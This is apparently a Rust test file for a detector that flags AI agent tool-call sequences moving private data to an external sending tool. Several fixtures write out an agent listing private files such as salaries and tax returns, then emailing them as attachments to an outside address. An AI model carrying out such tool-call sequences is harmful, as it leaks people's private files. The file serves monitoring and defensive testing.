//! A reference that moves counts as the data it stands for; a server's own ids, and ids everybody counts by, do not.

use crate::call_cases::signals;
use serde_json::{Value, json};

fn is_flow(calls: &Value) -> bool {
    let said = signals(&json!({ "calls": calls }));
    said.iter().any(|signal| signal.check == "flow.internal_to_external")
}

/// What a private tool answers, and what a sending tool of `server` is given.
fn sent(server: &str, answer: &Value, argument: &Value) -> Value {
    json!([
        {"server": "drive", "tool": "list_private_files", "arguments": {}, "result": answer},
        {"server": server, "tool": "send_email",
         "arguments": {"to": "kim@far.example", "body": "see attached", "attachments": [argument]}, "result": "ok"},
    ])
}

#[test]
fn a_file_id_given_to_another_servers_sending_tool_is_the_file() {
    let answer = json!("{\"files\": [{\"file_id\": \"f-Qxbz91\", \"name\": \"salaries\"}]}");
    assert!(is_flow(&sent("mail", &answer, &json!("f-Qxbz91"))));
}

#[test]
fn a_path_without_a_digit_is_the_file_too() {
    let answer = json!("/home/ann/tax/harbour return.pdf\n/home/ann/tax/quay.pdf");
    assert!(is_flow(&sent("mail", &answer, &json!("/home/ann/tax/quay.pdf"))));
    let record = json!({"structuredContent": {"path": "/home/ann/tax/harbour return.pdf"}});
    assert!(is_flow(&sent("mail", &record, &json!("/home/ann/tax/harbour return.pdf"))));
}

#[test]
fn a_handle_of_the_protocol_is_what_it_opens() {
    let answer = json!({"content": [{"type": "resource_link", "uri": "vaultfs://clients/okonkwo/file"}]});
    assert!(is_flow(&sent("mail", &answer, &json!("vaultfs://clients/okonkwo/file"))));
}

#[test]
fn ids_of_the_same_server_are_its_own() {
    let answer = json!("{\"files\": [{\"path\": \"plans/harbour.docx\"}]}");
    assert!(!is_flow(&sent("drive", &answer, &json!("plans/harbour.docx"))));
}

#[test]
fn listing_and_getting_on_one_server_is_clean() {
    assert!(!is_flow(&json!([
        {"server": "drive", "tool": "list_private_files", "arguments": {},
         "result": "{\"files\": [{\"path\": \"plans/harbour.docx\"}]}"},
        {"server": "drive", "tool": "get_file", "arguments": {"path": "plans/harbour.docx"}, "result": "text"},
    ])));
}

#[test]
fn a_path_the_agent_knew_before_is_nobody_elses() {
    assert!(!is_flow(&json!([
        {"server": "drive", "tool": "stat_private_file", "arguments": {"path": "plans/harbour.docx"},
         "result": "{\"path\": \"plans/harbour.docx\", \"size\": 12}"},
        {"server": "mail", "tool": "send_email",
         "arguments": {"to": "kim@far.example", "body": "see attached", "attachments": ["plans/harbour.docx"]},
         "result": "ok"},
    ])));
}

#[test]
fn short_numbers_stand_for_something_else_everywhere() {
    let answer = json!("{\"files\": [{\"id\": 26, \"name\": \"salaries\"}]}");
    assert!(!is_flow(&sent("mail", &answer, &json!("26"))));
}

#[test]
fn a_reading_tool_of_another_server_sends_nothing() {
    assert!(!is_flow(&json!([
        {"server": "drive", "tool": "list_private_files", "arguments": {},
         "result": "{\"files\": [{\"path\": \"plans/harbour.docx\"}]}"},
        {"server": "disk", "tool": "get_file", "arguments": {"path": "plans/harbour.docx"}, "result": "text"},
    ])));
}
